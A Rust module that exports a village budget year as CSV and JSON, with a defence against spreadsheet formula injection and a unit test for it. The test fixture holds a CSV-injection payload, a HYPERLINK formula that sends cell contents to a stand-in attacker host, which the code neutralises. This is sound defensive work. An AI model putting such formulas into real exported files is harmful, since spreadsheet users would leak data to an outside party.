//! Downloads of a budget year: CSV for spreadsheets, JSON for programs.
//!
//! In: a budget and its summary. Out: file bytes. One CSV row per table row, computed groups
//! included; amounts as plain decimals with a dot (`1220937619.09`) so any spreadsheet or
//! program reads them exactly. JSON amounts are strings for the same reason. Text cells
//! that a spreadsheet would run as a formula are neutralised ([`text`]).

use crate::budget::summary::Summary;
use crate::budget::{Amounts, Budget, NodeKind, Section};
use serde::Serialize;

const HEADER: [&str; 11] = [
    "bagian",
    "kode",
    "uraian",
    "tingkat",
    "jenis_belanja",
    "sumber_dana",
    "lokasi",
    "anggaran",
    "realisasi",
    "lebih_kurang",
    "persen",
];

fn kind_name(kind: NodeKind) -> &'static str {
    match kind {
        NodeKind::Group => "kelompok",
        NodeKind::Leaf => "baris",
        NodeKind::Rincian => "rincian",
    }
}

fn opt(d: Option<rust_decimal::Decimal>) -> String {
    d.map(|d| d.to_string()).unwrap_or_default()
}

/// A text cell as a spreadsheet takes it literally. A cell starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return is read as a formula by Excel, LibreOffice and Google
/// Sheets (an uraian `=HYPERLINK(…)` becomes a link that leaks data), so it gets a leading
/// `'`, as the OWASP guidance on CSV injection says. Amounts are not text and never pass
/// here: a negative difference stays a number.
fn text(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

pub fn csv(budget: &Budget) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::new());
    let _ = w.write_record(HEADER);
    for section in Section::ALL {
        let tree = budget.tree(section);
        for (i, _) in tree.walk() {
            let n = &tree.nodes[i];
            let a = n.amounts;
            let _ = w.write_record([
                section.path(),
                n.kode.as_str(),
                &text(&n.uraian),
                kind_name(n.kind),
                n.jenis.as_ref().map(|j| j.as_str()).unwrap_or(""),
                n.sumber_dana.map(|s| s.kode).unwrap_or(""),
                &text(n.lokasi.as_deref().unwrap_or("")),
                &a.anggaran.to_string(),
                &opt(a.realisasi),
                &opt(a.selisih()),
                &opt(a.percent()),
            ]);
        }
    }
    w.into_inner().unwrap_or_default()
}

#[derive(Serialize)]
struct JsonAmounts {
    anggaran: String,
    realisasi: Option<String>,
    persen: Option<String>,
}

impl From<&Amounts> for JsonAmounts {
    fn from(a: &Amounts) -> Self {
        JsonAmounts {
            anggaran: a.anggaran.to_string(),
            realisasi: a.realisasi.map(|r| r.to_string()),
            persen: a.percent().map(|p| p.to_string()),
        }
    }
}

#[derive(Serialize)]
struct JsonRow {
    bagian: &'static str,
    kode: String,
    uraian: String,
    tingkat: &'static str,
    jenis_belanja: Option<String>,
    sumber_dana: Option<&'static str>,
    lokasi: Option<String>,
    keterangan: Option<String>,
    #[serde(flatten)]
    amounts: JsonAmounts,
}

#[derive(Serialize)]
struct JsonRingkasan {
    pendapatan: JsonAmounts,
    belanja: JsonAmounts,
    surplus_defisit: JsonAmounts,
    penerimaan_pembiayaan: JsonAmounts,
    pengeluaran_pembiayaan: JsonAmounts,
    pembiayaan_netto: JsonAmounts,
    silpa_tahun_berjalan: JsonAmounts,
}

#[derive(Serialize)]
struct JsonBudget {
    tahun: i32,
    kodefikasi: &'static str,
    tahap: &'static str,
    per_tanggal: Option<String>,
    dasar_hukum: Option<String>,
    ringkasan: JsonRingkasan,
    baris: Vec<JsonRow>,
}

pub fn json(budget: &Budget, summary: &Summary) -> Vec<u8> {
    let t = &summary.totals;
    let mut baris = Vec::new();
    for section in Section::ALL {
        let tree = budget.tree(section);
        for (i, _) in tree.walk() {
            let n = &tree.nodes[i];
            baris.push(JsonRow {
                bagian: section.path(),
                kode: n.kode.to_string(),
                uraian: n.uraian.clone(),
                tingkat: kind_name(n.kind),
                jenis_belanja: n.jenis.as_ref().map(ToString::to_string),
                sumber_dana: n.sumber_dana.map(|s| s.kode),
                lokasi: n.lokasi.clone(),
                keterangan: n.keterangan.clone(),
                amounts: (&n.amounts).into(),
            });
        }
    }
    let doc = JsonBudget {
        tahun: budget.tahun,
        kodefikasi: budget.kodefikasi.name(),
        tahap: budget.tahap.name(),
        per_tanggal: budget.per_tanggal.map(|d| d.to_string()),
        dasar_hukum: budget.dasar_hukum.clone(),
        ringkasan: JsonRingkasan {
            pendapatan: (&t.pendapatan).into(),
            belanja: (&t.belanja).into(),
            surplus_defisit: (&t.surplus).into(),
            penerimaan_pembiayaan: (&t.penerimaan).into(),
            pengeluaran_pembiayaan: (&t.pengeluaran).into(),
            pembiayaan_netto: (&t.netto).into(),
            silpa_tahun_berjalan: (&t.silpa).into(),
        },
        baris,
    };
    let mut out = serde_json::to_vec_pretty(&doc).unwrap_or_default();
    out.push(b'\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_in_text_cells_are_neutralised_and_amounts_stay_numbers() {
        let budget = crate::budget::valid(
            "tahun: 2025\ntahap: realisasi\nper_tanggal: 2025-12-31\npendapatan:\n  - { kode: \"4.1.1\", uraian: \"=HYPERLINK(\\\"https://jahat.example/?d=\\\"&A1, \\\"klik\\\")\", anggaran: 1000, realisasi: 1500 }\nbelanja:\n  - { kode: \"01.01.01\", uraian: \"+62 812 sewa tenda\", jenis: \"5.1.1\", sumber_dana: ADD, lokasi: \"@SUM(A1:A9)\", anggaran: 900, realisasi: 900 }\n  - { kode: \"01.01.02\", uraian: \"-\\tGaji\", jenis: \"5.1.1\", sumber_dana: ADD, lokasi: \"Dusun Krajan\", anggaran: 100, realisasi: 40 }\n",
        );
        let bytes = csv(&budget);
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        let row = |kode: &str| {
            rows.iter()
                .find(|r| &r[1] == kode && &r[3] != "kelompok")
                .unwrap_or_else(|| panic!("{kode}"))
                .clone()
        };
        let p = row("4.1.1");
        assert_eq!(
            &p[2],
            "'=HYPERLINK(\"https://jahat.example/?d=\"&A1, \"klik\")"
        );
        // 1500 − 1000 = 500 more than planned; the amounts are plain numbers.
        assert_eq!((&p[7], &p[8]), ("1000", "1500"));
        let b = row("01.01.01");
        assert_eq!((&b[2], &b[6]), ("'+62 812 sewa tenda", "'@SUM(A1:A9)"));
        let g = row("01.01.02");
        assert_eq!((&g[2], &g[6]), ("'-\tGaji", "Dusun Krajan"));
        // 40 − 100: a negative difference stays a number, without a quote.
        assert_eq!((&g[8], &g[9]), ("40", "-60"));
    }
}
